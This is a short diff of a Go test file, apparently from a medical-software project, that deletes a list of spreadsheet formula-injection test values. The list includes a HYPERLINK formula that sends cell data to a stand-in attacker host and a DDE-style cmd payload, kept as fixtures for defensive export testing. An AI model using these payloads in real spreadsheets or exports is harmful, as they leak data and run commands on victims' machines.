@@ -30,11 +30,6 @@ import (
 // MEDSEC_TEST_POSTGRES_DSN is unset).
 var engines = []string{"sqlite", "postgres"}
 
-// hostileCells are values a spreadsheet would run as formulas.
-var hostileCells = []string{
-	`=HYPERLINK("http://evil.example/"&A1,"x")`, `@SUM(1+1)*cmd|' /C calc'!A0`, "+1+1", "-2+3", "＝1+1",
-}
-
 // request sends a request with a bearer token and returns the status, content type and body.
 func (f *fixture) request(method, path, token, contentType string, body io.Reader) (int, string, []byte) {
 	f.t.Helper()
